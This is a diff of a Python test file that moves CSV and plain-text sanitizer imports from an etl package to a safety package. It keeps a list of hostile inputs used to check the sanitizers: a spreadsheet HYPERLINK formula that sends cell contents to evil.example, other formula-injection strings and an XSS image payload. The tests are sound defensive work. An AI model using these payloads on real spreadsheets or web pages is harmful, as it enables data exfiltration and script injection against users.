@@ -16,11 +16,11 @@ from hypothesis import strategies as st
 
 from dashboard import figures
 from dashboard.layout import csv_bytes
-from etl.csvout import FORMULA_STARTS
-from etl.csvout import csv_bytes as frame_csv
-from etl.plaintext import html_text, printable
 from report import charts
 from report.content import s as typst_string
+from safety.csvout import FORMULA_STARTS
+from safety.csvout import csv_bytes as frame_csv
+from safety.plaintext import html_text, printable
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1",
            "东城\x0b社区", "<img src=x onerror=alert(1)>", 'a "quoted", cell', "多行\n文本", "正常文本"]
@@ -94,7 +94,7 @@ def test_plotly_labels_lose_control_characters_and_the_map_tooltip_shows_names_a
 
 
 def test_markdown_text_shows_what_was_typed():
-    from etl.plaintext import markdown_text
+    from safety.plaintext import markdown_text
 
     assert markdown_text("[点此](http://evil.example) **粗** $x$\x0b") == (
         "\\[点此\\]\\(http://evil\\.example\\) \\*\\*粗\\*\\* \\$x\\$ ")
